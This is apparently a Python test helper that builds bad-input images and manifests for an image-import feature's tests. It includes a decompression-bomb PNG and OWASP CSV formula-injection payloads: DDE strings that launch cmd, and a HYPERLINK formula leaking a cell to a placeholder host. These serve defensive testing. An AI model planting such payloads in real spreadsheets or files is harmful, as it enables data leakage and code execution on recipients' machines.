"""A bad-input corpus for import tests: the command line (tests/test_import.py) and a real browser
upload of the Import page (tests/test_security.py).

`build_corpus(folder, astronaut)` writes photos and a manifest; it returns the manifest path and
what the report must say about each file (severity and a phrase of the reason).
"""
from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

import numpy as np
from PIL import Image

from tests.conftest import face_variants, jpeg_bytes, png_bytes, write_manifest


def png_claiming_size(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims `width` x `height` (a decompression bomb's calling card)."""
    raw = png_bytes(Image.new("L", (1, 1)))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return raw[:8] + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk)) + raw[33:]


def build_corpus(folder: Path, astronaut: np.ndarray) -> tuple[Path, dict[str, tuple[str, str]]]:
    """Write the corpus into `folder`; return (manifest path, {file: (severity, phrase)})."""
    folder.mkdir(parents=True, exist_ok=True)
    good = face_variants(astronaut, 4)
    files: dict[str, bytes] = {
        "good1.jpg": good[0],
        "good2.jpg": good[1],
        "copy_of_good1.jpg": good[0],
        "zero.jpg": b"",
        "truncated.jpg": good[2][: len(good[2]) // 2],
        "corrupt.jpg": b"\xff\xd8\xff\xe0" + bytes(range(256)) * 20,
        "notes.png": b"this is a text file, not a picture\n" * 10,
        "bomb.png": png_claiming_size(40000, 40000),
        "tiny.png": png_bytes(Image.fromarray(astronaut).resize((32, 32))),
        "cmyk.jpg": _save(Image.fromarray(astronaut).convert("CMYK"), "JPEG"),
        "sixteen.png": png_bytes(Image.fromarray(astronaut[..., 0].astype(np.uint16) * 257)),
        "palette.png": png_bytes(Image.fromarray(astronaut).convert("P")),
        "gray.png": png_bytes(Image.fromarray(astronaut).convert("L")),
        "alpha.png": png_bytes(Image.fromarray(astronaut).convert("RGBA")),
        "stray.jpg": jpeg_bytes(astronaut[::2, ::2].copy()),
        "badrow.jpg": good[3],
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    rows = [{"file": f, "subject": "P001", "movement": "MV1", "source": "hospital"} for f in files
            if f not in ("stray.jpg", "badrow.jpg")]
    rows += [
        {"file": "missing.jpg", "subject": "P001", "movement": "MV2", "source": "hospital"},
        {"file": "good2.jpg", "subject": "P001", "movement": "MV9", "source": "hospital"},
        {"file": "good1.jpg", "subject": "P002", "movement": "MV3", "source": "clinic"},
        {"file": "badrow.jpg", "subject": "P003", "movement": "MV7", "source": "hospital"},
    ]
    # good2 is listed once validly (above) and once with a bad movement; good1 once with a bad source;
    # badrow only with a bad movement (its one error names it: it is not "not in the manifest" too).
    manifest = write_manifest(folder / "manifest.csv", rows)
    expect = {
        "good1.jpg": ("ok", ""),
        "good2.jpg": ("ok", ""),
        "copy_of_good1.jpg": ("error", "same image as good1.jpg"),
        "zero.jpg": ("error", "empty file"),
        "truncated.jpg": ("error", "truncated"),
        "corrupt.jpg": ("error", "cannot decode"),
        "notes.png": ("error", "not an image"),
        "bomb.png": ("error", "decompression bomb"),
        "tiny.png": ("error", "too small"),
        "cmyk.jpg": ("info", "CMYK"),
        "sixteen.png": ("info", "16"),
        "palette.png": ("info", "palette"),
        "gray.png": ("info", "grayscale"),
        "alpha.png": ("info", "transparency"),
        "stray.jpg": ("warning", "not in the manifest"),
        "missing.jpg": ("error", "no such file"),
        "badrow.jpg": ("error", "unknown movement"),
    }
    return manifest, expect


def _save(img: Image.Image, fmt: str) -> bytes:
    buf = io.BytesIO()
    img.save(buf, fmt)
    return buf.getvalue()


# Formula-injection payloads (OWASP "CSV injection"): every CSV we write must neutralise them.
FORMULAS = ("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"open\")")


def build_hostile_corpus(folder: Path, astronaut: np.ndarray) -> tuple[Path, dict[str, tuple[str, str]]]:
    """The corpus above plus what a careless or hostile manifest brings: formula cells in file
    names and subject codes, a Windows-1252 manifest with accented codes, a 12-megapixel photo,
    a photo without a face and one with two. Faces are not looked for at import (measurement
    reports `no_face` / `multiple_faces`), so those three import fine."""
    manifest, expect = build_corpus(folder, astronaut)
    from tests.conftest import jpeg_bytes

    face = np.asarray(Image.fromarray(astronaut).crop((130, 30, 320, 250)))
    extra = {
        "huge.jpg": jpeg_bytes(np.asarray(Image.fromarray(astronaut).resize((4000, 3000)))),
        "noface.jpg": jpeg_bytes(np.full((400, 400, 3), 128, np.uint8)),
        "twofaces.jpg": jpeg_bytes(np.concatenate([face, face], axis=1)),
    }
    for name, data in extra.items():
        (folder / name).write_bytes(data)
    text = manifest.read_text(encoding="utf-8")
    text += "huge.jpg,P003,MV0,hospital\r\n"
    text += f"noface.jpg,\"{FORMULAS[4].replace(chr(34), chr(34) * 2)}\",MV0,hospital\r\n"
    text += "twofaces.jpg,Müller-Éloïse,MV0,mobile\r\n"
    for i, f in enumerate(FORMULAS[:4]):
        text += f"\"{f.replace(chr(34), chr(34) * 2)}.jpg\",P00{i},MV0,hospital\r\n"
    manifest.write_bytes(text.encode("cp1252"))
    expect.update({"huge.jpg": ("ok", ""), "noface.jpg": ("ok", ""), "twofaces.jpg": ("ok", ""),
                   "manifest.csv": ("warning", "Windows-1252"),
                   **{f"{f}.jpg": ("error", "no such file") for f in FORMULAS[:4]}})
    return manifest, expect
